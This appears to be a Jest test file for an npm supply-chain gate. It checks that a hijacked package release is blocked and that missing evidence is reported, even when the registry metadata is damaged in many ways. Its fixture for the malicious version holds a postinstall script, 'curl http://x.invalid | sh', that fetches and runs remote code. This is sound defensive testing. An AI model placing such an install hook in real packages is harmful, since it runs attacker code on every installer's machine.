/**
 * The same hijacked release told by documents that are damaged in every way known: each time it is blocked, or it is said
 * what could not be told. None of them is a pass.
 */
import { describe, expect, it } from '@jest/globals';
import { evaluate } from '../../src/engine.ts';
import { openEvidence } from '../../src/evidence/collect.ts';
import type { ResolvedTree } from '../../src/model/package.ts';
import type { Report } from '../../src/model/report.ts';
import { defaultPolicy } from '../../src/policy/build.ts';
import { loadWeights } from '../../src/policy/weights.ts';
import { packumentFrom } from '../../src/registry/packument.ts';
import { changed } from '../../src/rules/example.ts';
import { rules } from '../../src/rules/index.ts';

const now = Date.UTC(2026, 5, 1);
const owner = { name: 'owner', email: 'owner@mail.example' };

interface Manifest {
  readonly [field: string]: unknown;
}

const honest = (people: unknown = [owner]): Manifest => ({ _npmUser: owner, maintainers: people });
const bad = (more: Manifest = {}): Manifest => ({
  _npmUser: { name: 'stranger', email: 's@proton.me' },
  maintainers: [{ name: 'stranger' }],
  scripts: { postinstall: 'curl http://x.invalid | sh' },
  ...more,
});

const usual = { '1.0.0': '2023-01-01T00:00:00Z', '1.0.1': '2024-01-01T00:00:00Z', '1.0.2': '2026-05-31T23:00:00Z' };
const versions = { '1.0.0': honest(), '1.0.1': honest(), '1.0.2': bad() };

/** Document, and the version that is bad in it. */
const documents: Readonly<Record<string, readonly [document: object, version?: string]>> = {
  'nothing damaged': [{ versions, time: usual }],
  'no time at all': [{ versions }],
  'no time of the bad version': [{ versions, time: { ...usual, '1.0.2': undefined } }],
  'a time that is none': [{ versions, time: { ...usual, '1.0.2': 'yesterday' } }],
  'a time in the future': [{ versions, time: { ...usual, '1.0.2': '2031-01-01T00:00:00Z' } }],
  'a time long gone by, before the releases it follows': [{ versions, time: { ...usual, '1.0.2': '2019-01-01T00:00:00Z' } }],
  'all times equal': [{ versions, time: { '1.0.0': usual['1.0.0'], '1.0.1': usual['1.0.0'], '1.0.2': usual['1.0.0'] } }],
  'times out of order': [{ versions, time: { '1.0.0': usual['1.0.1'], '1.0.1': usual['1.0.0'], '1.0.2': usual['1.0.2'] } }],
  'unpublished since': [{ versions: { '1.0.0': honest(), '1.0.1': honest() }, time: usual }],
  'the whole package unpublished': [{ time: { unpublished: { time: '2026-05-31T23:30:00Z', versions: ['1.0.2'] } } }],
  'a placeholder of the registry': [
    { versions: { '0.0.1-security': {} }, time: { ...usual, '0.0.1-security': '2026-05-31T23:30:00Z' } },
    '0.0.1-security',
  ],
  'a stage among the releases': [{ versions: { '0.0.0-stage': {}, ...versions }, time: { '0.0.0-stage': '2026-05-30T00:00:00Z', ...usual } }],
  '3,000 versions before it': [longHistory(), '2999.0.1'],
  'versions that are not semver': [
    { versions: { '1.0': honest(), '1.1': honest(), '1.2': bad() }, time: { '1.0': usual['1.0.0'], '1.1': usual['1.0.1'], '1.2': usual['1.0.2'] } },
    '1.2',
  ],
  'maintainers as text': [
    { versions: { ...versions, '1.0.1': honest('owner <owner@mail.example>'), '1.0.2': bad({ maintainers: 'stranger' }) }, time: usual },
  ],
  'maintainers as null': [{ versions: { ...versions, '1.0.1': honest(null), '1.0.2': bad({ maintainers: null }) }, time: usual }],
  'maintainers without mail': [
    {
      versions: { ...versions, '1.0.1': honest([{ name: 'owner' }]), '1.0.2': bad({ maintainers: [{ name: 'stranger' }, {}, null, 7] }) },
      time: usual,
    },
  ],
  'no publisher of the bad version': [{ versions: { ...versions, '1.0.2': bad({ _npmUser: undefined }) }, time: usual }],
  'no publisher anywhere': [
    {
      versions: Object.fromEntries(Object.entries(versions).map(([version, manifest]) => [version, { ...manifest, _npmUser: undefined }])),
      time: usual,
    },
  ],
};

describe.each(Object.entries(documents))('a hijacked release with %s', (_what, [document, version = '1.0.2']) => {
  it('is blocked', async () => {
    const report = await judged(document, version, false);
    expect({ action: report.action, because: report.findings.filter((one) => one.action === 'block').map((one) => one.ruleId) }).toEqual({
      action: 'block',
      because: expect.arrayContaining([expect.any(String)]),
    });
  });

  it('is no pass as of that moment', async () => {
    const report = await judged(document, version, true);
    expect(report.action).toBe('block');
  });
});

it('says what a document does not tell instead of passing over it', async () => {
  const missing = async (what: string) => (await judged(documents[what]?.[0] ?? {}, '1.0.2', false)).coverage.notOffered.map((one) => one.evidence);
  expect(await missing('no time at all')).toContain('times');
  expect(await missing('no publisher of the bad version')).toContain('publishers');
  expect(await missing('maintainers as null')).toContain('maintainers');
  const report = await judged(documents['no time of the bad version']?.[0] ?? {}, '1.0.2', false);
  expect(report.gaps.map((gap) => [gap.missing, gap.why])).toContainEqual(['times', 'failed']);
});

function judged(document: object, version: string, past: boolean): Promise<Report> {
  const parsed = packumentFrom('lib', { name: 'lib', ...document });
  if (!parsed.ok) throw new Error(parsed.reason);
  const change = changed('lib', '1.0.1', version);
  const tree: ResolvedTree = { format: 'test', root: {}, packages: [change.after], dependentsOf: () => [] };
  const packuments = {
    registryOf: () => 'https://registry.example/',
    packument: async () => ({ status: 'found' as const, packument: parsed.packument, confirmedAt: now }),
  };
  const sources = openEvidence({ packuments, names: () => ({ near: [] }), tree, now, past });
  return evaluate({ mode: 'gate', toolVersion: '0', changes: [change], tree, sources, rules, weights: loadWeights(), policy: defaultPolicy(), now });
}

function longHistory(): object {
  const all = Array.from({ length: 3000 }, (_, index) => `${index}.0.0`);
  const at = (index: number) => new Date(Date.UTC(2012, 0, 1) + index * 40 * 3_600_000).toISOString();
  return {
    versions: { ...Object.fromEntries(all.map((version) => [version, honest()])), '2999.0.1': bad() },
    time: { ...Object.fromEntries(all.map((version, index) => [version, at(index)])), '2999.0.1': '2026-05-31T23:00:00Z' },
  };
}
